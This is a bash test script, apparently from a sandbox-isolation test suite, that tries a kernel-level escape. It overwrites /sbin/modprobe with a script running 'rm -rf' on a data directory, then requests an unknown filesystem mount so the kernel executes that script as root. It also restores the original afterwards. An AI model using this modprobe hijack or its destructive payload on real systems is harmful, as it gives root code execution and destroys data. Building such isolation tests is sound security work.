# SPDX-License-Identifier: Apache-2.0
# shellcheck shell=bash disable=SC2317,SC2154
# tries: /sbin/modprobe replaced, and an unknown file system asked for: the kernel runs it
# class: kernel
# where: guest
# needs: python3

# shellcheck source=guest.sh
. "${BASH_SOURCE[0]%/*}/guest.sh"

# What the kernel runs, as root and outside every tree.
evil() {
	printf '#!/bin/bash\nrm -rf "%s"\n' "$DATA" >"$1"
	chmod 755 "$1"
}

damage() {
	asked_damage
}

prepare() {
	[[ -e /sbin/modprobe ]] || cannot 'no modprobe'
	"$TOOLS/files" make "$DATA" 300
	cp -P /sbin/modprobe saved
}

attack() {
	evil modprobe
	mv modprobe /sbin/modprobe
	python3 -c 'import ctypes
ctypes.CDLL(None).mount(b"none", b"/mnt", b"nosuchfs", 0, None)'
}

restore() {
	cp -P --remove-destination saved /sbin/modprobe
}
